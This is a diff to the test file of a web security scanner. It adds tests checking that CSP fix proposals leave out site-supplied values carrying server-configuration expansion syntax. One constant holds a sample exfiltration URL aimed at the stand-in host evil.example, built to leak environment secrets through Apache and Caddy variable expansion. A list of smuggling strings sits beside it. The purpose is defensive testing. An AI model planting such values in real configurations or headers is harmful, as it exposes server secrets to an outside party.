@@ -356,3 +356,50 @@ def test_scripts_after_the_end_of_html_are_hashed_and_a_script_writing_it_keeps_
 
     # Then both are allowed by the hash of their exact text (browsers run the one after </html> "in body")
     assert directives(propose(page).policy)["script-src"] == ["'self'", sha256(writer), sha256(late)]
+
+
+# --- what the site wrote, copied into server configuration (issue 15) -------------------------------
+
+#: Apache expands ${NAME} and Caddy {$NAME} (environment variables) in the configuration the fix is pasted in.
+HOSTILE = "https://evil.example/r?u=${APACHE_SECRET}&h={$SECRETVAR:x}"
+
+
+def _csp_proposal(headers: list[tuple[str, str]]) -> tuple[str, str, str]:
+    snapshot = make_snapshot(PAGE_URL, body=html("<script>a=1</script>").encode(), headers=headers)
+    result = check_headers(snapshot)
+    [finding, *_] = [f for f in result.findings if f.subject == "Content-Security-Policy"]
+    return finding.outcome, finding.fix_vars["csp_proposal"], finding.note or ""
+
+
+def test_site_values_with_configuration_syntax_are_left_out_of_every_proposal_with_a_note() -> None:
+    cases = [
+        # a policy that does not restrict scripts: a derived proposal keeping the site's report-uri, report-to
+        ("Content-Security-Policy", f"script-src *; report-uri {HOSTILE} /ok; report-to {{$G}} ok", "csp.broad"),
+        # one that does: the site's own, repaired (base-uri missing)
+        ("Content-Security-Policy", f"script-src 'self'; object-src 'none'; report-uri {HOSTILE} /ok", "csp.no_base"),
+        # only a Report-Only policy: the site's own, to enforce
+        (
+            "Content-Security-Policy-Report-Only",
+            f"default-src 'self'; img-src 'self' %{{X}}e; report-uri {HOSTILE}",
+            "",
+        ),
+    ]
+    for header, value, outcome in cases:
+        found, policy, note = _csp_proposal([(header, value)])
+        assert found.startswith(outcome or "csp.report_only_only"), found
+        assert not set(policy) & set("${}%\\"), policy
+        assert "left out: characters ($, braces, %, quotes, backslashes)" in note, note
+        if header == "Content-Security-Policy":
+            assert "report-uri /ok" in policy, policy  # the writable one is kept
+        else:
+            assert "report-uri" not in policy and "img-src 'self'" in policy, policy
+
+
+def test_writable_sources_are_csp_source_expressions_and_url_characters() -> None:
+    from websec_app.scanner.fixes.csp_proposal import writable_source
+
+    good = ["'self'", "'nonce-ab+/c='", "'sha256-AbC+/=='", "*.example.com:*", "https://a.example/r?x=1&y=[2]",
+            "data:", "/csp-report", "my-policy#1", "*"]  # fmt: skip
+    bad = ["${A}", "{$A}", "a{b", "a}b", "%{HOME}e", '"x"', "a'b", "'x y'", "a\\b", "a b", "$uri", "", "x" * 2000]
+    assert [t for t in good if not writable_source(t)] == []
+    assert [t for t in bad if writable_source(t)] == []
